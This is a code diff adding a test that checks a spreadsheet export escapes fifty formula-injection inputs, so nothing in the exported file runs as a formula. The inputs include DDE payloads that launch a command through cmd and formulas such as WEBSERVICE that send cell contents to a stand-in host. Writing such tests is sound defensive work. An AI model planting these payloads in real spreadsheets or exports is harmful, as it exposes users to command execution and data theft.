@@ -22,6 +22,24 @@ def test_text_that_looks_like_a_formula_is_text() -> None:
         assert read_back([[cell]]) == [["'" + cell]]
 
 
+def test_file_5_none_of_fifty_formulas_runs() -> None:
+    """FILE-5, attack 35: every way to begin a formula before every way to go on with it."""
+    begins = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff20")
+    bodies = (
+        'HYPERLINK("http://canary.example","pay")',
+        "cmd|'/C calc'!A0",
+        'WEBSERVICE("http://canary.example/"&A1)',
+        "SUM(1;1)*cmd|'/C calc'!A0",
+        'IMPORTXML("http://canary.example";"//a")',
+    )
+    cells = [begin + body for begin in begins for body in bodies]
+    assert len(cells) == 50
+    rows: list[list[str | int | float | None]] = [[cell, 1] for cell in cells]
+    found = read_back(rows)
+    assert [row[0] for row in found] == ["'" + cell for cell in cells]
+    assert all(row[1] == "1" for row in found)
+
+
 def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
     assert read_back([[-1, 0.5, None, "plain"]]) == [["-1", "0.5", "", "plain"]]
 
